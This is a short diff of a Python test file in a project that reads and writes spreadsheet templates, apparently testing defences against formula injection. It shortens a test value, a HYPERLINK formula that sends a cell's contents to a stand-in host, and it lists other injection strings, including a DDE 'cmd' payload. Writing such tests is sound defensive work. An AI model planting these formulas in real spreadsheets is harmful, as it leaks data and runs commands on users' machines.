@@ -52,7 +52,8 @@ from joinedup.io.structure_sheets import read_actions, read_funding, read_meetin
 from joinedup.io.survey_export import template_header, write_template
 
 SRC = Path(__file__).resolve().parents[2] / "src" / "joinedup"
-EVIL = '=HYPERLINK("http://evil.example/?leak="&A1,"Click for details")'
+EVIL = '=HYPERLINK("http://e.vil/?"&A1,"Go")'
+"""Short enough for a reference column (40 characters), so every column can be tried with it."""
 OTHERS = ("+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)", "\tTab =1+1", "\r=1+1")
 _NUMBER = re.compile(r"[+-]?(\d+\.?\d*|\.\d+)([eE][+-]?\d+)?")
 
